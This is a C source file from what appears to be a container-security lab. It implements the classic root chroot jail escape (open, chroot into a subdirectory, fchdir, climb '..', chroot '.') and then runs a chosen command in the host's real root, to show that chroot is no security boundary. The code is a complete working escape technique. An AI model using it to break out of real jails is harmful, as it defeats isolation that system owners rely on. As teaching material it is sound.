/* 06-pivot-root/chroot-escape.c - leave a chroot jail as root, to show
 * that chroot is no security boundary.
 *
 *     sudo ./chroot-escape -v --jail /tmp/ctlab-jail cat /etc/hostname
 *     sudo chroot /jail /chroot-escape ls /      # from inside a jail
 *
 * chroot(2) changes one thing: the directory path lookup treats as "/"
 * for this process. It does not move the process's current directory,
 * and ".." only stops at the root if you arrive *at* the root. So, as
 * root (CAP_SYS_CHROOT):
 *
 *   1. open(".")         keep a handle on where we are, inside the jail
 *   2. chroot("sub")     a new, smaller root; our cwd is now outside it
 *   3. fchdir(fd)        back to the old place, which is outside the root
 *   4. chdir("..")       climb: no root is ever met on the way up,
 *      ...               until ".." is "." (the real root)
 *   5. chroot(".")       make that the root again
 *
 * pivot_root in a mount namespace has no such hole: the old root is not
 * mounted any more (see pivot.c and the lab sheet).
 *
 * It is linked statically so that it runs inside any jail, and it uses
 * nothing from lib/ for the same reason (lib/ may be built with the
 * sanitizers, which cannot link statically).
 *
 * Read: chroot(2) ("This call does not change the current working
 * directory"), the classic "How to break out of a chroot() jail" (2002).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define SUBDIR    "ctlab-escape-sub"
#define MAX_CLIMB 4096 /* no real path is that deep */

static int verbose;

/* Trace mode, as [chroot-escape] lines on stderr (like lib/err.c's). */
static void step(const char *fmt, ...)
{
    va_list ap;

    if (!verbose)
        return;
    va_start(ap, fmt);
    fprintf(stderr, "[chroot-escape] ");
    vfprintf(stderr, fmt, ap);
    fprintf(stderr, "\n");
    va_end(ap);
}

static int fail(const char *what)
{
    fprintf(stderr, "chroot-escape: %s: %s\n", what, strerror(errno));
    return -1;
}

/* --jail DIR: build a jail holding a copy of this program, and go in. */
static int enter_jail(const char *jail)
{
    char self[4096], copy[4200];
    ssize_t length;
    int in, out;

    if (mkdir(jail, 0755) < 0 && errno != EEXIST)
        return fail(jail);
    /* A copy of ourselves, so the jail holds the program that escapes. */
    length = readlink("/proc/self/exe", self, sizeof(self) - 1);
    if (length < 0)
        return fail("/proc/self/exe");
    self[length] = '\0';
    snprintf(copy, sizeof(copy), "%s/chroot-escape", jail);
    in = open(self, O_RDONLY | O_CLOEXEC);
    out = open(copy, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (in < 0 || out < 0)
        return fail(copy);
    for (char buf[65536]; (length = read(in, buf, sizeof(buf))) > 0;)
        if (write(out, buf, (size_t)length) != length)
            return fail(copy);
    close(in);
    close(out);
    step("chroot(\"%s\"); chdir(\"/\")  <- now in the jail", jail);
    if (chroot(jail) < 0 || chdir("/") < 0)
        return fail("chroot into the jail");
    return 0;
}

static int escape(void)
{
    struct stat here, up;
    int fd, climbed;

    /* 1-2. Hold on to where we are, then chroot into a subdirectory. */
    fd = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0)
        return fail("open .");
    if (mkdir(SUBDIR, 0700) < 0 && errno != EEXIST)
        return fail("mkdir " SUBDIR);
    step("open(\".\") = %d; chroot(\"" SUBDIR "\")", fd);
    if (chroot(SUBDIR) < 0)
        return fail("chroot " SUBDIR);
    /* 3. Back out of the new root's subtree, which chroot did not stop. */
    step("fchdir(%d)  <- cwd is now outside the root", fd);
    if (fchdir(fd) < 0)
        return fail("fchdir");
    close(fd);
    rmdir(SUBDIR); /* tidy: it was only a stepping stone */
    /* 4. Climb until ".." is "." itself: that is the real root. */
    for (climbed = 0; climbed < MAX_CLIMB; climbed++) {
        if (stat(".", &here) < 0 || stat("..", &up) < 0)
            return fail("stat");
        if (here.st_dev == up.st_dev && here.st_ino == up.st_ino)
            break;
        if (chdir("..") < 0)
            return fail("chdir ..");
    }
    step("chdir(\"..\") x %d  <- at the real root", climbed);
    /* 5. Make it our root again. */
    step("chroot(\".\")");
    if (chroot(".") < 0)
        return fail("chroot .");
    return 0;
}

static void usage(FILE *out)
{
    fprintf(out, "Usage: chroot-escape [-v] [--jail DIR] [CMD [ARG...]]\n"
                 "As root in a chroot, get out and run CMD (default: ls /) "
                 "in the real root.\n"
                 "  --jail DIR  first make DIR a jail and chroot into it "
                 "(the demo)\n");
}

int main(int argc, char **argv)
{
    static char *default_command[] = {"ls", "/", NULL};
    const char *jail = NULL;
    char **command;
    int i = 1;

    /* 1. Options: -v, --jail DIR, then the command. */
    for (; i < argc && argv[i][0] == '-'; i++) {
        if (strcmp(argv[i], "-v") == 0) {
            verbose = 1;
        } else if (strcmp(argv[i], "--jail") == 0 && i + 1 < argc) {
            jail = argv[++i];
        } else if (strcmp(argv[i], "-h") == 0 ||
                   strcmp(argv[i], "--help") == 0) {
            usage(stdout);
            return 0;
        } else if (strcmp(argv[i], "--") == 0) {
            i++;
            break;
        } else {
            fprintf(stderr,
                    "chroot-escape: unknown option '%s' (see: "
                    "chroot-escape --help)\n",
                    argv[i]);
            return 2;
        }
    }
    command = i < argc ? argv + i : default_command;

    /* 2. Into the jail (the demo), then out of it. */
    if (jail && enter_jail(jail) < 0)
        return 125;
    if (escape() < 0) {
        if (errno == EPERM)
            fprintf(stderr, "chroot-escape: chroot needs CAP_SYS_CHROOT: "
                            "without it there is no way out this way\n");
        return 125;
    }

    /* 3. A command in the host's real root. */
    step("execvp(\"%s\")", command[0]);
    fflush(NULL);
    execvp(command[0], command);
    fprintf(stderr, "chroot-escape: exec %s: %s\n", command[0],
            strerror(errno));
    return errno == ENOENT ? 127 : 126;
}
